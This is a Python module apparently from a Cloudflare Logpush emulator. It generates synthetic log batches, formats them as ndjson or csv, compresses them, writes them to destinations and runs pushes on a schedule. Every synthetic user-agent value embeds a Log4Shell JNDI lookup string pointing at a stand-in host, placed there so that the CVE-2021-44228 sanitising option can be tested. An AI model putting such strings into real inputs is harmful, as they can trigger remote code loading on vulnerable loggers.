"""Enabled jobs really push: synthetic log lines of the job's dataset, formatted as the job asks, gzipped, written.

Formatting follows Cloudflare's log output options (README, Sources: output options): ndjson or csv, record/batch prefixes,
suffixes and delimiters, `record_template` ({{.Field}} actions only), timestamp format, sample rate and the
CVE-2021-44228 `${` -> `x{` replacement. `logpull_options` (fields=, timestamps=, sample=, CVE-2021-44228=)
are used when there are no output_options.
"""
import datetime
import gzip
import json
import random
import re
import secrets
import threading
import time

from .destinations import WriteError, parse_destination
from .jobs import parse_logpull

BASE_RECORDS = 10
# Cloudflare disables a job whose pushes have failed for 24 hours (Logpush health docs, cloudflare-docs PR#32514).
DISABLE_AFTER = 24 * 3600
DEFAULTS = {
    "ndjson": {"record_prefix": "{", "record_suffix": "}\n", "field_delimiter": ",", "record_delimiter": "",
               "batch_prefix": "", "batch_suffix": ""},
    "csv": {"record_prefix": "", "record_suffix": "\n", "field_delimiter": ",", "record_delimiter": "",
            "batch_prefix": "", "batch_suffix": ""},
}
TEMPLATE_ACTION = re.compile(r"{{\s*\.([A-Za-z0-9_]+)\s*}}")


def output_settings(job, catalog):
    """Everything the formatter needs, from output_options or (if absent) logpull_options."""
    known = list(catalog.get(job["dataset"]))
    oo = job.get("output_options")
    if oo is not None:
        kind = oo.get("output_type", "ndjson")
        cfg = dict(DEFAULTS[kind])
        cfg.update({k: v for k, v in oo.items() if k in cfg})
        cfg.update(output_type=kind, fields=list(oo.get("field_names") or known or ["Timestamp"]),
                   timestamp_format=oo.get("timestamp_format", "unixnano"),
                   sample_rate=float(oo.get("sample_rate", 1)), cve=bool(oo.get("CVE-2021-44228")),
                   record_template=oo.get("record_template") or "")
        return cfg
    params = dict(parse_logpull(job["logpull_options"])) if job.get("logpull_options") else {}
    cfg = dict(DEFAULTS["ndjson"])
    cfg.update(output_type="ndjson", fields=params["fields"].split(",") if params.get("fields") else known or ["Timestamp"],
               timestamp_format=params.get("timestamps", "unixnano"), sample_rate=float(params.get("sample", 1)),
               cve=params.get("CVE-2021-44228") == "true", record_template="")
    return cfg


def format_timestamp(ts, fmt):
    dt = datetime.datetime.fromtimestamp(ts, tz=datetime.timezone.utc)
    if fmt == "unix":
        return int(ts)
    if fmt == "rfc3339":
        return dt.strftime("%Y-%m-%dT%H:%M:%SZ")
    if fmt == "rfc3339ms":
        return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (dt.microsecond // 1000)
    if fmt == "rfc3339ns":
        return dt.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d000Z" % dt.microsecond
    return int(ts * 1_000_000_000)


def synth_value(name, rng, ts, fmt):
    low = name.lower()
    if "timestamp" in low or low in ("datetime", "time", "createdat"):
        return format_timestamp(ts, fmt)
    if low.endswith("rayid") or low == "rayid":
        return "%016x" % rng.getrandbits(64)
    if low.endswith("ip"):
        return "192.0.2.%d" % rng.randint(1, 254)
    if "useragent" in low:
        # always carries `${` so that the CVE-2021-44228 option is visible in every batch
        return rng.choice(["curl/8.5.0", "Mozilla/5.0"]) + " ${jndi:ldap://example.invalid/a}"
    if any(k in low for k in ("status", "bytes", "port", "count", "ms", "asn", "score", "id")):
        return rng.randint(1, 599)
    if low.startswith("is") or "passed" in low or low.endswith("used"):
        return rng.random() < 0.5
    if "host" in low:
        return "www.example.com"
    if "method" in low:
        return rng.choice(["GET", "POST"])
    return "%s-%d" % (name, rng.randint(0, 999))


def _csv_value(value):
    if isinstance(value, bool):
        value = "true" if value else "false"
    text = str(value)
    if any(c in text for c in ',"\n'):
        text = '"%s"' % text.replace('"', '""')
    return text


def render(records, cfg):
    """Records (lists of (name, value)) -> the batch text."""
    encode = json.dumps if cfg["output_type"] == "ndjson" else _csv_value
    lines = []
    for record in records:
        values = dict(record)
        if cfg["record_template"]:
            body = TEMPLATE_ACTION.sub(lambda m, v=values: encode(v.get(m.group(1))), cfg["record_template"])
        elif cfg["output_type"] == "ndjson":
            body = cfg["field_delimiter"].join("%s:%s" % (json.dumps(k), json.dumps(v)) for k, v in record)
        else:
            body = cfg["field_delimiter"].join(_csv_value(v) for _, v in record)
        lines.append(cfg["record_prefix"] + body + cfg["record_suffix"])
    text = cfg["batch_prefix"] + cfg["record_delimiter"].join(lines) + cfg["batch_suffix"]
    if cfg["cve"]:
        text = text.replace("${", "x{")
    return text


def make_batch(job, catalog, start, end, seed):
    cfg = output_settings(job, catalog)
    rng = random.Random(seed)
    n = max(1, round(BASE_RECORDS * cfg["sample_rate"]))
    records = []
    for i in range(n):
        ts = start + (end - start) * (i + 1) / (n + 1)
        records.append([(name, synth_value(name, rng, ts, cfg["timestamp_format"])) for name in cfg["fields"]])
    return render(records, cfg), n


def _stamp(ts):
    return datetime.datetime.fromtimestamp(ts, tz=datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")


class Pusher:
    def __init__(self, store, catalog, dio, clock):
        self.store = store
        self.catalog = catalog
        self.dio = dio
        self.clock = clock
        self.cycle_lock = threading.Lock()
        self.seq = 0

    def push_cycle(self):
        """Push one batch for every enabled job; return what happened."""
        with self.cycle_lock:
            with self.store.lock:
                jobs = [dict(j) for j in sorted(self.store.jobs.values(), key=lambda j: j["id"]) if j["enabled"]]
            return [self._push(job) for job in jobs]

    def _push(self, job):
        now = self.clock.now()
        start = now - 30
        self.seq += 1
        report = {"job_id": job["id"], "scope": "%s/%s" % (job["scope_type"], job["scope_id"]), "dataset": job["dataset"]}
        try:
            text, count = make_batch(job, self.catalog, start, now, seed=job["id"] * 100003 + self.seq)
            data = gzip.compress(text.encode("utf-8"), mtime=0)
            dest = parse_destination(job["destination_conf"])
            name = "%s_%s_%s.log.gz" % (_stamp(start), _stamp(now), secrets.token_hex(4))
            if "{DATE}" not in dest.path and dest.kind != "https":
                name = "%s/%s" % (self.clock.now_dt().strftime("%Y%m%d"), name)
            location = self.dio.write(dest, name, data)
        except (WriteError, ValueError) as exc:
            error = "error writing object: %s" % exc
            disabled = self._record(job["id"], error=error)
            report.update(ok=False, error=error)
            if disabled:
                report["disabled"] = True
            return report
        self._record(job["id"])
        report.update(ok=True, location=location, records=count, bytes=len(data))
        return report

    def _record(self, job_id, error=None):
        """Store the outcome; True when this failure disabled the job (24 hours of failures)."""
        now = self.clock.now()
        with self.store.lock:
            job = self.store.jobs.get(job_id)
            if job is None:
                return False
            if error is None:
                job.update(last_complete=self.clock.iso(now), last_error=None, error_message=None, failing_since=None)
                return False
            job.update(last_error=self.clock.iso(now), error_message=error)
            if job.get("failing_since") is None:
                job["failing_since"] = now
            if now - job["failing_since"] >= DISABLE_AFTER and job["enabled"]:
                # error_message and last_error stay, so the user can see why
                job["enabled"] = False
                return True
            return False


class Scheduler(threading.Thread):
    """Runs a push cycle every `push_interval` seconds of the emulator clock (0 = never)."""

    def __init__(self, pusher, store, clock, tick=0.1):
        super().__init__(name="emulator-pusher", daemon=True)
        self.pusher = pusher
        self.store = store
        self.clock = clock
        self.tick = tick
        self.stopped = threading.Event()

    def run(self):
        while not self.stopped.wait(self.tick):
            interval = self.store.settings["push_interval"]
            if not interval:
                continue
            now = self.clock.now()
            with self.store.lock:
                due = self.store.next_push_at
                if due is None:
                    self.store.next_push_at = now + interval
                    continue
                if now < due:
                    continue
                self.store.next_push_at = now + interval
            try:
                self.pusher.push_cycle()
            except Exception as exc:  # keep the scheduler alive; the error is reported on stderr
                print("emulator: push cycle failed: %r" % exc, flush=True)
            time.sleep(0)

    def stop(self):
        self.stopped.set()
